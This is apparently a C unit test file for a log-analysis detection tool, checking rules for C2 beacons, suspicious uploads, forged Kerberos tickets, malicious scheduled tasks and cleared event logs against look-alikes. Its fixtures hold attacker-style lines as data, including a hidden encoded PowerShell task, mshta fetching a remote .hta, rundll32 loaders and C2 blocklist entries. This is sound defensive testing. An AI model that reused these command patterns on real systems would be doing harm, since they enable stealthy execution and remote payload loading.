/* Each analysis on lines that it must report and on look-alikes that it must not. */
#define _GNU_SOURCE /* nftw */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "analysis_fixture.h"

static void listed_addresses(void **state) {
    struct bench b;
    bench_open(&b, *state, "198.51.100.7,C2\n198.51.100.8,shared host, weak\n");
    bench_firewall(&b, "2026-03-02", "10:00:00", "10.0.7.1", 5000, "198.51.100.7", 443, false);
    bench_firewall(&b, "2026-03-02", "10:01:00", "10.0.7.2", 5000, "198.51.100.7", 443, true);
    bench_firewall(&b, "2026-03-02", "10:02:00", "10.0.7.3", 5000, "198.51.100.8", 443, false);
    bench_firewall(&b, "2026-03-02", "10:03:00", "198.51.100.7", 5000, "203.0.113.5", 22, true);
    bench_firewall(&b, "2026-03-02", "10:04:00", "10.0.7.4", 5000, "198.51.100.9", 443, false);
    bench_run(&b);
    assert_int_equal(bench_count(&b, "FW-02", LEVEL_INFORMATIONAL), 3);
    assert_int_equal(bench_count(&b, "FW-02", LEVEL_HIGH), 2);
    assert_int_equal(bench_count(&b, "FW-02", LEVEL_CRITICAL), 1);
    bench_close(&b);
}

/* Six tries, each with a repeated packet, to a place that nobody else knows. */
static void refused_connections(void **state) {
    struct bench b;
    char time[16];
    bench_open(&b, *state, "");
    for (unsigned i = 0; i < 6; i++) {
        (void)snprintf(time, sizeof time, "11:%02u:00", i);
        bench_firewall(&b, "2026-03-02", time, "10.0.7.1", 6000 + i, "93.184.216.50", 8080, true);
        (void)snprintf(time, sizeof time, "11:%02u:03", i);
        bench_firewall(&b, "2026-03-02", time, "10.0.7.1", 6000 + i, "93.184.216.50", 8080, true);
    }
    /* two tries with many repetitions are no five */
    for (unsigned i = 0; i < 10; i++) {
        (void)snprintf(time, sizeof time, "12:00:%02u", i);
        bench_firewall(&b, "2026-03-02", time, "10.0.7.2", 6000 + i / 5, "93.184.216.51", 443,
                       true);
    }
    /* the printer calls where the site file says it does */
    for (unsigned i = 0; i < 8; i++) {
        (void)snprintf(time, sizeof time, "13:%02u:00", i);
        bench_firewall(&b, "2026-03-02", time, "10.0.5.10", 7000 + i, "93.184.216.40", 443, true);
    }
    bench_run(&b);
    struct bench_found found = bench_find(&b, "FW-03", LEVEL_HIGH, false);
    assert_int_equal(found.count, 1);
    assert_true(str_find(buf_str(&found.text), STR("\"client\":[\"10.0.7.1\"]")) != STR_NONE);
    assert_true(str_find(buf_str(&found.text), STR("\"count\":12")) != STR_NONE);
    buf_fini(&found.text);
    assert_int_equal(bench_count(&b, "FW-03", LEVEL_LOW), 1);
    assert_int_equal(bench_explained(&b, "FW-03"), 1);
    bench_close(&b);
}

static void listed_sites(void **state) {
    struct bench b;
    bench_open(&b, *state, "evil.example,C2\nhttp://files.example/bad/,dropper\n");
    bench_proxy(&b, "02/Mar/2026:10:00:00", "10.0.7.1", "taro", "GET http://a.evil.example/x", 200,
                BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:01:00", "10.0.7.2", "jiro", "CONNECT evil.example:443", 403,
                BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:02:00", "10.0.7.3", "hana",
                "GET http://files.example/bad/a.exe", 200, BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:03:00", "10.0.7.4", "aki", "GET http://notevil.example/", 200,
                BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:04:00", "10.0.7.4", "aki",
                "GET http://search.example.org/?q=evil.example", 200, BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:05:00", "10.0.7.4", "aki", "GET http://files.example/badge",
                200, BROWSER, 300);
    bench_run(&b);
    assert_int_equal(bench_count(&b, "PX-01", LEVEL_INFORMATIONAL), 3);
    assert_int_equal(bench_count(&b, "PX-01", LEVEL_CRITICAL), 2);
    bench_close(&b);
}

/* Every four hours, nights and the weekend too; and somebody who reads a site at work. */
static void beacons(void **state) {
    struct bench b;
    char time[32];
    bench_open(&b, *state, "");
    for (unsigned day = 2; day <= 9; day++) {
        for (unsigned hour = 1; hour < 24; hour += 4) {
            (void)snprintf(time, sizeof time, "%02u/Mar/2026:%02u:%02u:10", day, hour, day);
            bench_proxy(&b, time, "10.0.7.1", "taro", "CONNECT rare.example:443", 200, BROWSER,
                        300);
        }
        if (day < 7 || day > 8) {
            (void)snprintf(time, sizeof time, "%02u/Mar/2026:12:%02u:40", day, (day * 17) % 60);
            bench_proxy(&b, time, "10.0.7.2", "jiro", "GET http://lunch.example/", 200, BROWSER,
                        300);
        }
    }
    bench_run(&b);
    struct bench_found found = bench_find(&b, "PX-02", LEVEL_MEDIUM, false);
    assert_int_equal(found.count, 1);
    assert_true(str_find(buf_str(&found.text), STR("rare.example")) != STR_NONE);
    assert_true(str_find(buf_str(&found.text), STR("\"count\":48,")) != STR_NONE);
    buf_fini(&found.text);
    assert_int_equal(bench_count(&b, "PX-02", LEVEL_HIGH), 1);
    bench_close(&b);
}

static void odd_ports(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    bench_proxy(&b, "02/Mar/2026:10:00:00", "10.0.7.1", "taro", "CONNECT x.example:4444", 200,
                BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:01:00", "10.0.7.1", "taro", "CONNECT x.example:22", 403,
                BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:02:00", "10.0.7.1", "taro", "CONNECT x.example:443", 200,
                BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:03:00", "10.0.7.1", "taro", "CONNECT bank.example.com:8443",
                200, BROWSER, 300);
    bench_proxy(&b, "02/Mar/2026:10:04:00", "10.0.7.1", "taro", "CONNECT y.example:9999", 407,
                BROWSER, 300);
    bench_run(&b);
    assert_int_equal(bench_count(&b, "PX-04", LEVEL_INFORMATIONAL), 2);
    assert_int_equal(bench_count(&b, "PX-04", LEVEL_HIGH), 1);
    assert_int_equal(bench_explained(&b, "PX-04"), 1);
    bench_close(&b);
}

static void user_agents(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    bench_proxy(&b, "02/Mar/2026:10:00:00", "10.0.7.1", "taro", "GET http://a.example/", 200,
                "curl/8.5.0", 300);
    bench_proxy(&b, "02/Mar/2026:10:01:00", "10.0.7.2", "jiro", "GET http://a.example/", 200,
                "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", 300);
    bench_proxy(&b, "02/Mar/2026:10:02:00", "10.0.7.3", "hana", "GET http://a.example/", 200,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/199.0.1.2", 300);
    bench_proxy(&b, "02/Mar/2026:10:03:00", "10.0.7.3", "hana", "GET http://a.example/", 200, "-",
                300);
    bench_run(&b);
    assert_int_equal(bench_count(&b, "PX-05", LEVEL_INFORMATIONAL), 2);
    assert_int_equal(bench_count(&b, "PX-05", LEVEL_HIGH), 1);
    bench_close(&b);
}

/* A family that three clients used on three days is learned on the fourth. */
static void user_agents_are_learned(void **state) {
    struct bench b;
    char time[32];
    char client[32];
    bench_open(&b, *state, "");
    for (unsigned day = 2; day <= 5; day++) {
        for (unsigned i = 1; i <= 3; i++) {
            (void)snprintf(time, sizeof time, "%02u/Mar/2026:10:0%u:00", day, i);
            (void)snprintf(client, sizeof client, "10.0.7.%u", i);
            bench_proxy(&b, time, client, "-", "GET http://a.example/", 200,
                        day == 5 ? "OfficeTool/9.1" : "OfficeTool/8.0", 300);
        }
    }
    bench_run(&b);
    struct bench_found found = bench_find(&b, "PX-05", LEVEL_MEDIUM, false);
    assert_true(found.count > 0);
    assert_true(str_find(buf_str(&found.text), STR("OfficeTool/9")) == STR_NONE);
    buf_fini(&found.text);
    bench_close(&b);
}

static void uploads(void **state) {
    struct bench b;
    static const char *const hosts[] = {"drop.example", "box.example.com"};
    char request[128];
    bench_open(&b, *state, "");
    for (unsigned h = 0; h < 2; h++) {
        (void)snprintf(request, sizeof request, "POST http://%s/up", hosts[h]);
        bench_proxy(&b, "02/Mar/2026:23:58:00", "10.0.7.1", "taro", request, 200, BROWSER, 90000);
        (void)snprintf(request, sizeof request, "CONNECT %s:443", hosts[h]);
        bench_proxy(&b, "02/Mar/2026:23:59:00", "10.0.7.1", "taro", request, 200, BROWSER, 9000000);
        bench_proxy(&b, "03/Mar/2026:00:02:00", "10.0.7.1", "taro", request, 200, BROWSER, 9000000);
    }
    /* the same shape, small; and big, but too far apart */
    bench_proxy(&b, "02/Mar/2026:12:00:00", "10.0.7.2", "jiro", "POST http://form.example/", 200,
                BROWSER, 3000);
    bench_proxy(&b, "02/Mar/2026:12:01:00", "10.0.7.2", "jiro", "CONNECT form.example:443", 200,
                BROWSER, 3000);
    bench_proxy(&b, "02/Mar/2026:12:02:00", "10.0.7.2", "jiro", "CONNECT form.example:443", 200,
                BROWSER, 3000);
    bench_proxy(&b, "02/Mar/2026:13:00:00", "10.0.7.3", "hana", "POST http://far.example/", 200,
                BROWSER, 9000000);
    bench_proxy(&b, "02/Mar/2026:13:30:00", "10.0.7.3", "hana", "CONNECT far.example:443", 200,
                BROWSER, 9000000);
    bench_run(&b);
    struct bench_found found = bench_find(&b, "PX-06", LEVEL_HIGH, false);
    assert_int_equal(found.count, 1);
    assert_true(str_find(buf_str(&found.text), STR("drop.example")) != STR_NONE);
    assert_true(str_find(buf_str(&found.text), STR("\"count\":3,")) != STR_NONE);
    buf_fini(&found.text);
    assert_int_equal(bench_explained(&b, "PX-06"), 1);
    bench_close(&b);
}

/* The branch proxy's own log and the central one tell of one request each. */
static void forwarded_requests_count_once(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    bench_line(&b, "branch1",
               "1772413200.500    300 10.2.7.1 TCP_TUNNEL/200 900 CONNECT x.example:4444 taro "
               "FIRSTUP_PARENT/10.0.1.80 -\n");
    bench_line(&b, "proxy1",
               "10.2.1.80 - - [02/Mar/2026:10:00:00 +0900] \"CONNECT x.example:4444 HTTP/1.1\" 200 "
               "900 \"-\" \"" BROWSER
               "\" TCP_TUNNEL:HIER_DIRECT \"10.2.7.1\" 300 300 93.184.216.34\n");
    bench_run(&b);
    struct bench_found found = bench_find(&b, "PX-04", LEVEL_HIGH, false);
    assert_int_equal(found.count, 1);
    assert_true(str_find(buf_str(&found.text), STR("\"client\":[\"10.2.7.1\"]")) != STR_NONE);
    assert_true(str_find(buf_str(&found.text), STR("\"count\":1,")) != STR_NONE);
    buf_fini(&found.text);
    bench_close(&b);
}

#define SID(rid) "S-1-5-21-1-2-3-" rid

static void forged_pac(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    static const char request[] = "\"TargetUserName\":\"taro@AD.EXAMPLE.JP\",\"ServiceName\":"
                                  "\"krbtgt\",\"IpAddress\":\"::ffff:10.0.7.1\",\"Status\":\"0xf\"";
    static const char expired[] =
        "\"TargetUserName\":\"jiro@AD.EXAMPLE.JP\",\"ServiceName\":"
        "\"krbtgt\",\"IpAddress\":\"::ffff:10.0.7.2\",\"Status\":\"0x20\"";
    bench_windows(&b, "2026-03-02T01:00:00.000Z", "DC01", 4769, AUDITING, request);
    bench_windows(&b, "2026-03-02T01:01:00.000Z", "DC01", 4769, AUDITING, expired);
    bench_run(&b);
    assert_int_equal(bench_count(&b, "AD-01", LEVEL_INFORMATIONAL), 1);
    assert_int_equal(bench_count(&b, "AD-01", LEVEL_CRITICAL), 0);
    bench_windows(&b, "2026-03-02T01:05:00.000Z", "FS01", 4672, AUDITING,
                  "\"SubjectUserName\":\"taro\",\"SubjectUserSid\":\"" SID("1100") "\"");
    bench_run(&b);
    assert_int_equal(bench_count(&b, "AD-01", LEVEL_CRITICAL), 1);
    bench_close(&b);
}

static void logon(struct bench *b, const char *domain, const char *user, const char *sid) {
    char data[512];
    (void)snprintf(data, sizeof data,
                   "\"TargetUserName\":\"%s\",\"TargetDomainName\":\"%s\",\"TargetUserSid\":\"%s\","
                   "\"LogonType\":\"3\",\"IpAddress\":\"10.0.7.1\"",
                   user, domain, sid);
    bench_windows(b, "2026-03-02T01:00:00.000Z", "FS01", 4624, AUDITING, data);
}

static void forged_tickets(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    logon(&b, "eo.oe.kiwi :)", "Administrator", SID("500"));
    logon(&b, "corp", "ghost", SID("500"));
    logon(&b, "AD.EXAMPLE.JP", "taro", SID("1100"));
    logon(&b, "example", "taro", SID("1100"));
    logon(&b, "FS01", "local", SID("1001"));
    logon(&b, "Window Manager", "DWM-2", "S-1-5-90-0-2");
    logon(&b, "AUTORITE NT", "SYSTEM", "S-1-5-18");
    bench_run(&b);
    assert_int_equal(bench_count(&b, "AD-02", LEVEL_INFORMATIONAL), 2);
    assert_int_equal(bench_count(&b, "AD-02", LEVEL_CRITICAL), 1);
    bench_close(&b);
}

static void task(struct bench *b, const char *name, const char *command, const char *arguments) {
    char data[2048];
    (void)snprintf(
        data, sizeof data,
        "\"TaskName\":\"%s\",\"SubjectUserName\":\"taro\",\"TaskContent\":\"<Task><Actions>"
        "<Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions></Task>\"",
        name, command, arguments);
    bench_windows(b, "2026-03-02T01:00:00.000Z", "PC1", 4698, AUDITING, data);
}

static void tasks(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    task(&b, "\\\\a", "powershell.exe", "-nop -w hidden -enc AAAA");
    task(&b, "\\\\b", "C:\\\\Windows\\\\Temp\\\\svch0st.exe", "");
    task(&b, "\\\\c", "mshta.exe", "http://x.example/a.hta");
    task(&b, "\\\\d", "rundll32.exe", "C:\\\\ProgramData\\\\adb.dat,Start");
    task(&b, "\\\\e", "C:\\\\Perl\\\\svchost.exe", "");
    task(&b, "\\\\f", "\\\\\\\\host\\\\share\\\\x.exe", "");
    task(&b, "\\\\g", "%localappdata%\\\\Microsoft\\\\OneDrive\\\\OneDriveStandaloneUpdater.exe",
         "/reporting");
    task(&b, "\\\\h", "C:\\\\Program Files (x86)\\\\Google\\\\Update\\\\GoogleUpdate.exe", "/ua");
    task(&b, "\\\\i", "cmd.exe", "/c C:\\\\Program Files\\\\Backup\\\\run.bat");
    bench_run(&b);
    assert_int_equal(bench_count(&b, "AD-03", LEVEL_INFORMATIONAL), 6);
    assert_int_equal(bench_count(&b, "AD-03", LEVEL_HIGH), 6);
    bench_close(&b);
}

static void cleared_logs(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    static const char provider[] = "Microsoft-Windows-Eventlog";
    bench_windows(&b, "2026-03-02T01:00:00.000Z", "FS01", 1102, provider,
                  "\"SubjectUserName\":\"taro\"");
    bench_windows(&b, "2026-03-02T02:00:00.000Z", "DC01", 1102, provider,
                  "\"SubjectUserName\":\"taro\"");
    bench_windows(&b, "2026-03-02T10:30:00.000Z", "PC1", 104, provider,
                  "\"SubjectUserName\":\"adm1\",\"Channel\":\"Application\"");
    bench_windows(&b, "2026-03-02T03:00:00.000Z", "PC1", 104, "Microsoft-Windows-Kernel-Power", "");
    bench_run(&b);
    assert_int_equal(bench_count(&b, "AD-04", LEVEL_INFORMATIONAL), 2);
    assert_int_equal(bench_count(&b, "AD-04", LEVEL_CRITICAL), 1);
    assert_int_equal(bench_explained(&b, "AD-04"), 1);
    bench_close(&b);
}

static void special_logon(struct bench *b, const char *computer, const char *user,
                          const char *sid) {
    char data[256];
    (void)snprintf(data, sizeof data, "\"SubjectUserName\":\"%s\",\"SubjectUserSid\":\"%s\"", user,
                   sid);
    bench_windows(b, "2026-03-02T01:00:00.000Z", computer, 4672, AUDITING, data);
}

static void privileges(void **state) {
    struct bench b;
    bench_open(&b, *state, "");
    special_logon(&b, "FS01", "jiro", SID("1101"));
    special_logon(&b, "FS01", "admin$", SID("1102")); /* no computer of this name */
    special_logon(&b, "PC1", "taro", SID("1100"));    /* his own PC */
    special_logon(&b, "FS01", "adm1", SID("1103"));
    special_logon(&b, "FS01", "PC1$", SID("1104"));
    special_logon(&b, "FS01", "SYSTEM", "S-1-5-18");
    special_logon(&b, "FS01", "DWM-3", "S-1-5-90-0-3");
    bench_run(&b);
    assert_int_equal(bench_count(&b, "AD-05", LEVEL_HIGH), 2);
    assert_int_equal(bench_count(&b, "AD-05", LEVEL_INFORMATIONAL), 3);
    bench_close(&b);
}

/* Rows that are damaged say nothing. */
static void damaged_rows_are_kept_out(void **state) {
    struct bench b;
    bench_open(&b, *state, "198.51.100.7,C2\n");
    bench_firewall(&b, "2026-03-02", "10:00:00", "10.0.7.1", 5000, "198.51.100.7", 443, false);
    b.batch.rows[b.batch.row_count - 1].flags |= ROW_DAMAGED;
    bench_run(&b);
    assert_int_equal(bench_count(&b, "FW-02", LEVEL_INFORMATIONAL), 0);
    bench_close(&b);
}

#define CASE(test) cmocka_unit_test_setup_teardown(test, fixture_setup, fixture_teardown)

int main(void) {
    const struct CMUnitTest tests[] = {
        CASE(listed_addresses),
        CASE(refused_connections),
        CASE(listed_sites),
        CASE(beacons),
        CASE(odd_ports),
        CASE(user_agents),
        CASE(user_agents_are_learned),
        CASE(uploads),
        CASE(forwarded_requests_count_once),
        CASE(forged_pac),
        CASE(forged_tickets),
        CASE(tasks),
        CASE(cleared_logs),
        CASE(privileges),
        CASE(damaged_rows_are_kept_out),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
